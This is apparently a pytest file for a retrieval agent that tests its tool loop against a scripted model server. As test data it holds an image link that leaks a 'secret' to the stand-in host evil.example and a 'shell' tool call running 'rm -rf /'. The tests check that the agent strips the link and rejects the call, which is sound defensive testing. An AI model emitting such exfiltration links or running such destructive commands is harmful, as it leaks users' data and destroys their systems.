"""The agent's loop against a scripted server that calls tools over the real wire format."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from ragkit import KnowledgeBase, Settings
from ragkit.agent.chats import chat_models
from ragkit.agent.run import Agent, Step
from ragkit.errors import ModelServerError, QueryError, SettingsError
from ragkit.prompts.templates import Templates
from ragkit.testing import FakeEmbedder, FakeGenerator, FakeStore
from ragkit.testing.corpus import CORPUS, fill
from ragkit.testing.stub_server.script import Fault, Messages, Reply, ToolCall
from ragkit.types import Answer
from ragkit_serve import StubServer


@pytest.fixture
def knowledge() -> KnowledgeBase:
    store, embedder = FakeStore(), FakeEmbedder()
    fill(store, embedder, CORPUS)
    return KnowledgeBase(store, embedder, FakeGenerator(), collection="default")


@pytest.fixture
def server() -> Iterator[StubServer]:
    with StubServer() as stub:
        yield stub


def agent(knowledge: KnowledgeBase, *urls: str, **bounds: int) -> Agent:
    settings = Settings(llm_url=" ".join(urls), llm_model="stub")
    return Agent(knowledge, chat_models(settings), templates=Templates(), **bounds)


def run(asked: Agent, question: str) -> tuple[list[Step], Answer]:
    *steps, answer = asked.stream(question)
    assert isinstance(answer, Answer)
    assert all(isinstance(step, Step) for step in steps)
    return [step for step in steps if isinstance(step, Step)], answer


def results(messages: Messages) -> list[str]:
    return [str(message["content"]) for message in messages if message["role"] == "tool"]


def test_it_searches_again_and_cites_what_it_found(
    knowledge: KnowledgeBase, server: StubServer
) -> None:
    def script(messages: Messages) -> Reply:
        if not results(messages):
            return Reply(tool_calls=[ToolCall("search", {"query": "paid holiday days"})])
        number = results(messages)[-1].split('<source id="')[1].split('"')[0]
        return Reply(
            f"An employee has 28 days of paid holiday [{number}]. Nonsense follows [99]."
            " ![x](http://evil.example/?q=secret)"
        )

    server.script = script
    steps, answer = run(agent(knowledge, server.url), "What does a delta wing look like?")
    assert [(step.kind, step.text[:20]) for step in steps] == [
        ("search", "What does a delta wi"),
        ("model", "search({'query': 'pa"),
        ("search", "paid holiday days"),
        ("model", "An employee has 28 d"),
    ]
    assert "[99]" not in answer.text
    assert "evil" not in answer.text
    assert [(c.uri, c.verdict) for c in answer.citations] == [("leave.md", "verified")]
    assert answer.citations[0].quote == "Every employee has 28 days of paid holiday."
    assert all(step.tokens > 0 for step in steps if step.kind == "model")
    assert {hit.uri for hit in answer.used} >= {"wings.md", "leave.md"}


def test_only_search_is_offered_and_nothing_else_is_called(
    knowledge: KnowledgeBase, server: StubServer
) -> None:
    def script(messages: Messages) -> Reply:
        if not results(messages):
            return Reply(tool_calls=[ToolCall("shell", {"command": "rm -rf /"})])
        assert "shell is not a valid tool" in results(messages)[-1]
        return Reply("It is triangular [1].")

    server.script = script
    _, answer = run(agent(knowledge, server.url), "What does a delta wing look like?")
    assert answer.text == "It is triangular [1]."
    offered: list[Any] = server.requests[0].body["tools"]
    assert [tool["function"]["name"] for tool in offered] == ["search"]


@pytest.mark.parametrize(("max_steps", "max_tokens"), [(3, 10**6), (50, 500)])
def test_steps_and_tokens_are_bounded_and_an_answer_comes_all_the_same(
    knowledge: KnowledgeBase, server: StubServer, max_steps: int, max_tokens: int
) -> None:
    server.script = lambda messages: Reply(
        tool_calls=[ToolCall("search", {"query": f"holiday {n}"}) for n in range(30)]
    )
    asked = agent(knowledge, server.url, max_steps=max_steps, max_tokens=max_tokens)
    steps, answer = run(asked, "How many days of paid holiday?")
    calls = [step for step in steps if step.kind == "model"]
    assert len(calls) == len(server.requests) <= 3
    assert len([step for step in steps if step.kind == "search"]) <= 1 + 2 * max_steps
    assert sum(step.tokens for step in calls[:-1]) < max_tokens
    assert "28 days" in answer.text  # written without tools from what was found
    assert not answer.refused


def test_a_refusal_is_one(knowledge: KnowledgeBase, server: StubServer) -> None:
    server.script = lambda messages: Reply("所给资料无法回答这个问题。")
    _, answer = run(agent(knowledge, server.url), "火车票怎么买？")
    assert answer.refused
    assert answer.citations == ()
    assert server.requests[0].body["messages"][0]["content"].startswith("你根据一批内部文档")


def test_another_server_stands_in(knowledge: KnowledgeBase, server: StubServer) -> None:
    server.script = lambda messages: Reply("It is triangular [1].")
    with StubServer(lambda messages: Fault(status=503)) as broken:
        _, answer = run(agent(knowledge, broken.url, server.url), "How is a delta wing shaped?")
    assert answer.text == "It is triangular [1]."


def test_failures_and_nonsense_are_one_line(knowledge: KnowledgeBase, server: StubServer) -> None:
    server.script = lambda messages: Fault(status=500, message="out of order")
    with pytest.raises(ModelServerError, match="out of order"):
        run(agent(knowledge, server.url), "How is a delta wing shaped?")
    with pytest.raises(QueryError, match="no word"):
        run(agent(knowledge, server.url), "？！")
    for url, said in ((None, "needs a language model"), ("local:tiny", "cannot call tools")):
        with pytest.raises(SettingsError, match=said):
            chat_models(Settings(llm_url=url))
